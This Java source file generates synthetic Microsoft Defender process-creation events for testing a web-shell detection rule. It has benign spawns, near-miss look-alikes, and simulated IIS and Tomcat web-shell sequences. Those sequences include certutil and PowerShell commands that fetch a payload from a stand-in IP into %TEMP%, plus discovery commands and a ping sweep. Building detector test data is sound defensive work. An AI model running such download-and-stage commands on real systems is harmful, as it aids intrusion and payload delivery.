package dev.webshell.detector.generator;

import dev.webshell.detector.event.Timestamps;
import dev.webshell.schema.DeviceProcessEvent;
import java.util.Locale;
import java.util.Random;

/**
 * Realistic, full-width {@code DeviceProcessEvents} rows (every column filled as Defender fills it,
 * about 3 KB as JSON and 1.3 KB as Avro): benign process creations on many devices, and the
 * web-shell sequences the rule exists for. Deterministic for a given seed.
 */
public final class EventFactory {
  /** One process creation to build: who spawned what, with which command line. */
  public record Spawn(
      String parentOfInitiating,
      String initiating,
      String fileName,
      String commandLine,
      String account) {}

  static final Spawn[] BENIGN = {
    new Spawn(
        "services.exe",
        "svchost.exe",
        "conhost.exe",
        "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1",
        "SYSTEM"),
    new Spawn(
        "explorer.exe",
        "chrome.exe",
        "chrome.exe",
        "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer --lang=en-US --renderer-client-id=7",
        "jdoe"),
    new Spawn(
        "svchost.exe",
        "w3wp.exe",
        "csc.exe",
        "\"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe\" /noconfig /fullpaths @\"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\Temporary ASP.NET Files\\root\\x.cmdline\"",
        "DefaultAppPool"),
    new Spawn(
        "w3wp.exe",
        "csc.exe",
        "cvtres.exe",
        "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\cvtres.exe /NOLOGO /READONLY /MACHINE:IX86 \"/OUT:C:\\Windows\\TEMP\\RES1.tmp\"",
        "DefaultAppPool"),
    new Spawn("userinit.exe", "explorer.exe", "cmd.exe", "cmd.exe /c ipconfig /all", "jdoe"),
    new Spawn(
        "userinit.exe",
        "explorer.exe",
        "powershell.exe",
        "powershell.exe -NoProfile -Command whoami /groups",
        "jdoe"),
    new Spawn(
        "wininit.exe",
        "services.exe",
        "msiexec.exe",
        "C:\\Windows\\system32\\msiexec.exe /V",
        "SYSTEM"),
    new Spawn(
        "svchost.exe",
        "w3wp.exe",
        "cmd.exe",
        "cmd /c echo ok > C:\\inetpub\\logs\\health.txt",
        "DefaultAppPool"),
    new Spawn(
        "services.exe", "svchost.exe", "taskhostw.exe", "taskhostw.exe Install $(Arg0)", "SYSTEM"),
    new Spawn(
        "services.exe",
        "svchost.exe",
        "backgroundTaskHost.exe",
        "\"backgroundTaskHost.exe\" -ServerName:App.AppXmtcan0h2tfbfy7k9kn8hbxb6dmzz1zh0.mca",
        "jdoe"),
    new Spawn(
        "services.exe",
        "MsMpEng.exe",
        "MpCmdRun.exe",
        "\"C:\\ProgramData\\Microsoft\\Windows Defender\\platform\\4.18.24090.11-0\\MpCmdRun.exe\" SignatureUpdate -ScheduleJob",
        "SYSTEM"),
    new Spawn(
        "explorer.exe",
        "OUTLOOK.EXE",
        "msedge.exe",
        "\"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe\" --single-argument https://intranet.example/",
        "jdoe"),
  };

  /** Operation Soft Cell through IIS: discovery, download into %temp%, a ping sweep. */
  static final Spawn[] SOFT_CELL = {
    new Spawn("svchost.exe", "w3wp.exe", "cmd.exe", "cmd.exe /c whoami", "DefaultAppPool"),
    new Spawn("svchost.exe", "w3wp.exe", "cmd.exe", "cmd.exe /c ipconfig /all", "DefaultAppPool"),
    new Spawn(
        "svchost.exe",
        "w3wp.exe",
        "cmd.exe",
        "cmd.exe /c certutil -urlcache -split -f http://203.0.113.7/a.txt %TEMP%\\a.exe",
        "DefaultAppPool"),
    new Spawn(
        "svchost.exe",
        "w3wp.exe",
        "cmd.exe",
        "cmd.exe /c for /L %i in (1,1,254) do ping -n 1 -w 200 10.20.30.%i",
        "DefaultAppPool"),
    new Spawn("svchost.exe", "w3wp.exe", "cmd.exe", "cmd.exe /c systeminfo", "DefaultAppPool"),
    new Spawn("svchost.exe", "w3wp.exe", "cmd.exe", "cmd.exe /c whoami", "DefaultAppPool"),
  };

  /** A Tomcat web shell: the shell directly, then PowerShell two levels down. */
  static final Spawn[] TOMCAT = {
    new Spawn(
        "services.exe", "tomcat9.exe", "cmd.exe", "cmd.exe /c \"whoami && ipconfig\"", "tomcat"),
    new Spawn(
        "Tomcat9.exe",
        "cmd.exe",
        "powershell.exe",
        "powershell.exe -nop -c \"wget http://203.0.113.7/s.ps1 -OutFile $env:TEMP\\s.ps1\"",
        "tomcat"),
    new Spawn("services.exe", "tomcat9.exe", "cmd.exe", "cmd.exe /c timeout /t 30", "tomcat"),
  };

  /** Look-alikes the kql profile must not alert on. */
  static final Spawn[] NEAR_MISSES = {
    new Spawn("svchost.exe", "W3WP.EXE", "cmd.exe", "cmd.exe /c whoami", "DefaultAppPool"),
    new Spawn("svchost.exe", "w3wp.exe", "cmd.exe", "cmd.exe /c mapping.bat", "DefaultAppPool"),
    new Spawn("svchost.exe", "w3wp.exe", "pwsh.exe", "pwsh -c whoami", "DefaultAppPool"),
    new Spawn("services.exe", "ws_TomcatService.exe", "cmd.exe", "cmd.exe /c whoami", "tomcat"),
    new Spawn(
        "svchost.exe", "w3wp.exe", "cmd.exe", "cmd.exe /c wget64 http://x/y", "DefaultAppPool"),
  };

  private final Random random;
  private long reportId = 10_000;

  public EventFactory(long seed) {
    this.random = new Random(seed);
  }

  public Random random() {
    return random;
  }

  public static String deviceId(int n) {
    return String.format(Locale.ROOT, "%040x", 0x5a17c3110000L + n * 7919L);
  }

  public static String deviceName(int n) {
    return (n % 5 == 0 ? "web" : "ws") + String.format(Locale.ROOT, "%05d", n) + ".contoso.local";
  }

  public Spawn benign() {
    return BENIGN[random.nextInt(BENIGN.length)];
  }

  /** A full-width event for device {@code n}. */
  public DeviceProcessEvent event(long timestampMicros, int device, Spawn s) {
    String deviceId = deviceId(device);
    long pid = 1000 + random.nextInt(60_000);
    long parentPid = 1000 + random.nextInt(60_000);
    String folder = "C:\\Windows\\System32\\" + s.fileName();
    String initiatingFolder = "C:\\Windows\\System32\\" + s.initiating();
    String sid = "S-1-5-21-1004336348-1177238915-682003330-" + (1000 + device % 500);
    return DeviceProcessEvent.newBuilder()
        .setTimestamp(Timestamps.toInstant(timestampMicros))
        .setDeviceId(deviceId)
        .setDeviceName(deviceName(device))
        .setActionType("ProcessCreated")
        .setFileName(s.fileName())
        .setFolderPath(folder)
        .setSHA1(hex(40))
        .setSHA256(hex(64))
        .setMD5(hex(32))
        .setFileSize(20_000L + random.nextInt(2_000_000))
        .setProcessVersionInfoCompanyName("Microsoft Corporation")
        .setProcessVersionInfoProductName("Microsoft® Windows® Operating System")
        .setProcessVersionInfoProductVersion("10.0.20348.2849")
        .setProcessVersionInfoInternalFileName(s.fileName())
        .setProcessVersionInfoOriginalFileName(s.fileName() + ".mui")
        .setProcessVersionInfoFileDescription("Windows process")
        .setProcessId(pid)
        .setProcessCommandLine(s.commandLine())
        .setProcessIntegrityLevel("High")
        .setProcessTokenElevation("TokenElevationTypeDefault")
        .setProcessCreationTime(Timestamps.toInstant(timestampMicros))
        .setAccountDomain("CONTOSO")
        .setAccountName(s.account())
        .setAccountSid(sid)
        .setAccountUpn(s.account() + "@contoso.local")
        .setAccountObjectId(uuid())
        .setLogonId(999L + random.nextInt(100_000))
        .setInitiatingProcessAccountDomain("CONTOSO")
        .setInitiatingProcessAccountName(s.account())
        .setInitiatingProcessAccountSid(sid)
        .setInitiatingProcessAccountUpn(s.account() + "@contoso.local")
        .setInitiatingProcessAccountObjectId(uuid())
        .setInitiatingProcessLogonId(999L)
        .setInitiatingProcessIntegrityLevel("High")
        .setInitiatingProcessTokenElevation("TokenElevationTypeDefault")
        .setInitiatingProcessSHA1(hex(40))
        .setInitiatingProcessSHA256(hex(64))
        .setInitiatingProcessMD5(hex(32))
        .setInitiatingProcessFileName(s.initiating())
        .setInitiatingProcessFileSize(100_000L + random.nextInt(900_000))
        .setInitiatingProcessVersionInfoCompanyName("Microsoft Corporation")
        .setInitiatingProcessVersionInfoProductName("Internet Information Services")
        .setInitiatingProcessVersionInfoProductVersion("10.0.20348.1")
        .setInitiatingProcessVersionInfoInternalFileName(s.initiating())
        .setInitiatingProcessVersionInfoOriginalFileName(s.initiating() + ".mui")
        .setInitiatingProcessVersionInfoFileDescription("Initiating process")
        .setInitiatingProcessId(parentPid)
        .setInitiatingProcessCommandLine(
            "\"" + initiatingFolder + "\" -ap \"DefaultAppPool\" -v \"v4.0\"")
        .setInitiatingProcessCreationTime(Timestamps.toInstant(timestampMicros - 3_600_000_000L))
        .setInitiatingProcessFolderPath(initiatingFolder)
        .setInitiatingProcessParentId(4L + random.nextInt(2000))
        .setInitiatingProcessParentFileName(s.parentOfInitiating())
        .setInitiatingProcessParentCreationTime(
            Timestamps.toInstant(timestampMicros - 86_400_000_000L))
        .setInitiatingProcessSignerType("OsVendor")
        .setInitiatingProcessSignatureStatus("Valid")
        .setReportId(reportId++)
        .setAppGuardContainerId("")
        .setAdditionalFields("{\"ProcessStartKey\":" + (random.nextLong() >>> 1) + "}")
        .build();
  }

  private String hex(int n) {
    char[] c = new char[n];
    for (int i = 0; i < n; i++) {
      c[i] = Character.forDigit(random.nextInt(16), 16);
    }
    return new String(c);
  }

  private String uuid() {
    return new java.util.UUID(random.nextLong(), random.nextLong()).toString();
  }
}
